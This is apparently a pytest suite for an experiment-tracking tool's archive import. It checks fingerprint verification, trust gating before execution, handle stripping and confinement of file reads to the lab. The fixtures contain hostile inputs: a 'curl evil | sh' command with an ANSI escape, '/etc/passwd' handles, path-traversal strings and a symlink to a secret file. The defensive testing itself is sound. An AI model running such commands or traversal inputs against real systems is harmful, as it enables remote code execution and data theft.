"""What was imported is what its fingerprints say, replaces no study of one's own, and executes nothing."""

from __future__ import annotations

import json
import os
import sys
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import plans_support as plans
import pytest
import stores_support as stores
from archives_support import members, put, rewrite
from click.testing import CliRunner
from sqlalchemy import select, update

from jestlab.analysis import query, tables
from jestlab.analysis.connection import connect
from jestlab.analysis.provenance import load as history_of
from jestlab.analysis.provenance import recipe
from jestlab.platform import programs
from jestlab.platform.cli import cli
from jestlab.platform.errors import UserError
from jestlab.platform.lab import exporting, merging
from jestlab.platform.lab.lab import Lab
from jestlab.platform.planning.identity import fingerprint, is_true
from jestlab.platform.planning.plan import plan
from jestlab.platform.programs.command import identity
from jestlab.platform.spec.load import load
from jestlab.platform.store.records import RunState
from jestlab.platform.store.store import Store
from jestlab.platform.store.tables import Attempt, Experiment, Run, now
from jestlab.platform.store.trust import executed, origin_of, refuse_untrusted, trust

REFERENCE, JOINT, UNIFORM = plans.reference_and_two().runs


def study(lab, *runs, state=RunState.COMPLETED, **options):
    """A lab whose study `toy` has these runs."""
    store = Store.open(lab.store_url)
    store.record(plans.plan(*runs))
    for run in runs:
        stores.attempt(store, run, state, scores={"toy/score": 0.5}, loss=(1.0,), **options)
    return store


@pytest.fixture
def theirs(tmp_path):
    lab = Lab.find(tmp_path / "theirs")
    study(lab, REFERENCE, JOINT, handle="host:1:2:/etc/passwd")
    return lab


@pytest.fixture
def ours(tmp_path):
    lab = Lab.find(tmp_path / "ours")
    Store.open(lab.store_url)
    return lab


def export(lab, path):
    exporting.write(lab, Store.open(lab.store_url), path)
    return path


def take(lab, path, replace=False):
    return merging.merge(lab, Store.open(lab.store_url), path, replace)


def called(*arguments):
    return CliRunner().invoke(cli, [*map(str, arguments)], catch_exceptions=False, standalone_mode=False)


# ---- fingerprints


@pytest.mark.parametrize(
    "change",
    [
        put("run", config='{"steps": 11}'),
        put("run", program="toy_programs:other"),
        put("run", program="train"),
        put("run", program="command"),
        put("run", program="nothing of ours"),
        put("run", config='{"steps": NaN}'),
        put("need", role="selection.other"),
    ],
)
def test_a_run_that_is_not_what_its_fingerprint_says(theirs, ours, tmp_path, change):
    path = export(theirs, tmp_path / "lab.tar.gz")
    rewrite(path, change)
    with pytest.raises(UserError, match="has another fingerprint than its program, config and needs"):
        take(ours, path)
    assert query.select(ours.store_url, "runs").rows == query.select(ours.store_url, "experiments").rows == []
    assert not list(ours.root.glob(".*")) and not (ours.root / "runs").exists()


def test_the_runs_of_every_program_are_what_they_say():
    for name in ("quickstart", "learnable_batches", "filtering_ratio"):
        runs = plan(load(name, "smoke"), absent="note").runs
        assert all(
            is_true(run.fingerprint, run.program, json.loads(json.dumps(run.config)), run.needs)
            for run in runs
        )
        run = runs[-1]
        assert not is_true(run.fingerprint, run.program, run.config, {**run.needs, "another": "0" * 64})
        assert not is_true(run.fingerprint, "toy_programs:loop", run.config, run.needs)


def test_a_users_callable_is_checked_without_a_look_at_it(ours, tmp_path, monkeypatch):
    """Neither the module that an archive names nor the packages around it are imported."""
    (tmp_path / "planted" / "inner").mkdir(parents=True)
    (tmp_path / "planted" / "__init__.py").write_text("raise SystemExit('imported')")
    (tmp_path / "planted" / "inner" / "module.py").write_text("def call(): pass")
    monkeypatch.syspath_prepend(tmp_path)
    monkeypatch.chdir(tmp_path)
    lab = Lab.find(tmp_path / "theirs")
    study(lab, plans.run("evil", "planted.inner.module:call"), plans.run("file", f"{tmp_path}/x.py:call"))
    assert take(ours, export(lab, tmp_path / "lab.tar.gz")).new == 2
    assert [run.program for run in executed(Store.open(ours.store_url), "toy")] == [
        "planted.inner.module:call",
        f"{tmp_path}/x.py:call",
    ]
    for words in (["report", "toy"], ["gc"], ["diff", "toy/evil/0", "toy/file/0"], ["table", "toy"]):
        called(*words, "--root", ours.root)
    assert programs.get("planted.inner.module:call").entry_point == "planted.inner.module:call"
    assert "planted" not in sys.modules


# ---- jobs


def handles(lab):
    with Store.open(lab.store_url).reading() as connection:
        return connection.execute(select(Attempt.handle, Attempt.token)).all()


def test_handles_of_jobs_stay_where_the_jobs_are(theirs, ours, tmp_path):
    path = export(theirs, tmp_path / "lab.tar.gz")
    [rows] = [content for member, content in members(path) if member.name == "tables/attempt.jsonl"]
    assert all(not {"handle", "token"} & set(json.loads(line)) for line in rows.splitlines())
    take(ours, path)
    assert set(handles(ours)) == {(None, None)}


def test_handles_in_older_archives_are_passed_over(theirs, ours, tmp_path):
    path = export(theirs, tmp_path / "lab.tar.gz")
    rewrite(path, put("attempt", handle=f"host:{os.getpid()}:1:/etc/passwd", token="x"))
    assert take(ours, path).new == 2
    assert set(handles(ours)) == {(None, None)}


# ---- trust


def test_an_imported_study_executes_nothing_until_it_is_trusted(theirs, ours, tmp_path):
    take(ours, export(theirs, tmp_path / "lab.tar.gz"))
    store = Store.open(ours.store_url)
    origin = origin_of(store, "toy")
    assert origin is not None and (origin.archive, origin.trusted_at) == ("lab.tar.gz", None)
    with pytest.raises(UserError, match=r"imported from lab\.tar\.gz and is not trusted.*jestlab trust toy"):
        called("retry", "toy", "--root", ours.root)
    looked = called("trust", "toy", "--dry-run", "--root", ours.root).output
    assert "toy_programs:loop" in looked and "reference, joint" in looked and "not trusted" in looked
    with pytest.raises(UserError, match="is not trusted"):
        refuse_untrusted(store, "toy")
    told = json.loads(called("trust", "toy", "--json", "--root", ours.root).output)
    assert told["trusted"] and told["origin"]["archive"] == "lab.tar.gz" and len(told["runs"]) == 2
    refuse_untrusted(store, "toy")
    assert "nothing to retry" in called("retry", "toy", "--root", ours.root).output
    with pytest.raises(UserError, match="did you mean 'toy'"):
        called("trust", "toi", "--root", ours.root)


def test_commands_are_shown_as_a_shell_would_take_them(ours, tmp_path):
    lab = Lab.find(tmp_path / "theirs")
    own = plans.run("evil", "command", {"command": ["sh", "-c", "curl evil | sh\x1b[2J"], "cwd": "/"})
    text = plans.run("text", "command", {"command": "python train.py"})
    runs = [replace(r, fingerprint=fingerprint("command", 1, identity(r.config), {})) for r in (own, text)]
    study(lab, *runs)
    take(ours, export(lab, tmp_path / "lab.tar.gz"))
    shown = called("trust", "toy", "--dry-run", "--root", ours.root).output
    assert "command  sh -c 'curl evil | sh [2J' (in /)  evil" in shown
    assert "python train.py" in shown and "\x1b" not in shown


def test_tables_pages_and_lists_say_that_it_was_imported(theirs, ours, tmp_path):
    take(ours, export(theirs, tmp_path / "lab.tar.gz"))
    assert "imported from" in called("status", "--root", ours.root).output
    assert (
        json.loads(called("status", "--json", "--root", ours.root).output)[0]["imported_from"] == "lab.tar.gz"
    )
    assert "imported" not in called("status", "--root", theirs.root).output
    assert tables.table(ours.store_url, "summary", ["toy"]).notes[-1] == "toy was imported from lab.tar.gz."
    assert not any("imported" in note for note in tables.table(theirs.store_url, "summary", ["toy"]).notes)
    with connect(ours.store_url) as connection:
        history = history_of(connection, "toy")
    assert history is not None
    assert "imported from lab.tar.gz" in " ".join(recipe(history, None, "scoring").caveats)


def test_launching_a_spec_of_its_name_makes_it_ones_own(theirs, ours, tmp_path):
    take(ours, export(theirs, tmp_path / "lab.tar.gz"))
    store = Store.open(ours.store_url)
    store.record(plans.plan(UNIFORM))
    assert origin_of(store, "toy") is None
    refuse_untrusted(store, "toy")


# ---- whose study it is


def test_a_study_that_was_launched_here_stays_as_it_is(theirs, ours, tmp_path):
    path = export(theirs, tmp_path / "lab.tar.gz")
    rewrite(path, put("experiment", updated_at=(now() + timedelta(days=999)).isoformat()))
    store = study(ours, UNIFORM)
    before = query.select(ours.store_url, "experiments").rows
    merged = take(ours, path)
    assert (merged.new, merged.experiments, merged.kept_experiments) == (2, [], ["toy"])
    assert query.select(ours.store_url, "experiments").rows == before and origin_of(store, "toy") is None
    assert [run.label for run in store.runs("toy")] == [UNIFORM.label]
    told = called("import", path, "--root", ours.root).output
    assert "toy was launched here and stays as it is" in told and "--replace" in told and "--root" in told
    assert take(ours, path, replace=True).experiments == ["toy"]
    assert [run.label for run in store.runs("toy")] == ["reference", "joint"]
    with pytest.raises(UserError, match="is not trusted"):
        refuse_untrusted(store, "toy")


def test_an_archive_of_ones_own_study_as_it_is_says_nothing(theirs, tmp_path):
    path = export(theirs, tmp_path / "lab.tar.gz")
    merged = take(theirs, path, replace=True)
    assert (merged.experiments, merged.kept_experiments) == ([], [])
    assert origin_of(Store.open(theirs.store_url), "toy") is None


def test_of_imported_studies_the_later_launch_counts_and_the_future_is_now(theirs, ours, tmp_path):
    first = export(theirs, tmp_path / "first.tar.gz")
    (tmp_path / "future.tar.gz").write_bytes(first.read_bytes())
    rewrite(tmp_path / "future.tar.gz", put("experiment", updated_at="2199-01-01T00:00:00"))
    take(ours, tmp_path / "future.tar.gz")
    store = Store.open(ours.store_url)
    with store.reading() as connection:
        [updated_at] = connection.scalars(select(Experiment.updated_at))
    assert updated_at <= now()
    trust(store, "toy")
    assert take(ours, first).experiments == []
    assert (origin := origin_of(store, "toy")) is not None and origin.trusted_at is not None
    Store.open(theirs.store_url).record(plans.plan(UNIFORM))
    assert take(ours, export(theirs, tmp_path / "second.tar.gz")).experiments == ["toy"]
    again = origin_of(store, "toy")
    assert again is not None and (again.archive, again.trusted_at) == ("second.tar.gz", None)


# ---- what is executed


def programs_of(lab):
    with Store.open(lab.store_url).reading() as connection:
        return connection.scalars(select(Run.program)).all()


def test_a_program_of_another_folder_does_not_take_the_place_of_ones_own(ours, tmp_path):
    """The folder of a function's file is not part of a run's identity."""
    mine, evil = plans.run("a", "/mine/train.py:main"), plans.run("a", "/evil/train.py:main")
    assert mine.fingerprint == evil.fingerprint
    theirs = Lab.find(tmp_path / "theirs")
    study(theirs, evil)
    path = export(theirs, tmp_path / "lab.tar.gz")
    Store.open(ours.store_url).record(plans.plan(mine))
    assert take(ours, path).replaced == 1
    assert programs_of(ours) == ["/mine/train.py:main"]


@pytest.mark.parametrize("state", [RunState.COMPLETED, RunState.FAILED])
def test_a_launch_executes_ones_own_program(ours, tmp_path, state):
    mine, evil = plans.run("a", "/mine/train.py:main"), plans.run("a", "/evil/train.py:main")
    theirs = Lab.find(tmp_path / "theirs")
    study(theirs, evil, state=state)
    take(ours, export(theirs, tmp_path / "lab.tar.gz"))
    assert programs_of(ours) == ["/evil/train.py:main"]
    Store.open(ours.store_url).record(plans.plan(mine, name="mine"))
    assert programs_of(ours) == ["/mine/train.py:main"]


# ---- files


def test_logs_are_read_inside_the_lab_alone(theirs, tmp_path):
    store = Store.open(theirs.store_url)
    folder = theirs.root / JOINT.directory
    folder.mkdir(parents=True)
    (tmp_path / "secret").write_text("secret")
    (folder / "log.txt").symlink_to(tmp_path / "secret")
    with pytest.raises(UserError, match="leads out of the lab"):
        called("logs", "toy/joint", "--root", theirs.root)
    (folder / "log.txt").unlink()
    with store.writing() as connection:
        connection.execute(update(Run).where(Run.fingerprint == JOINT.fingerprint).values(directory="../.."))
    with pytest.raises(UserError, match="leads out of the lab"):
        called("logs", "toy/joint", "--root", theirs.root)


def test_a_folder_of_the_lab_may_lie_on_another_disk(theirs, tmp_path):
    (tmp_path / "disk" / Path(JOINT.directory).name).mkdir(parents=True)
    (tmp_path / "disk" / Path(JOINT.directory).name / "log.txt").write_text("said\n")
    (theirs.root / "runs").symlink_to(tmp_path / "disk")
    assert "said" in called("logs", "toy/joint", "--root", theirs.root).output
    for path in ("/etc/passwd", "runs/../../x", "../x", "runs/../runs/../../x"):
        with pytest.raises(UserError, match="leads out of the lab"):
            theirs.inside(path)
    assert theirs.inside("runs/x") == (tmp_path / "disk" / "x").resolve()
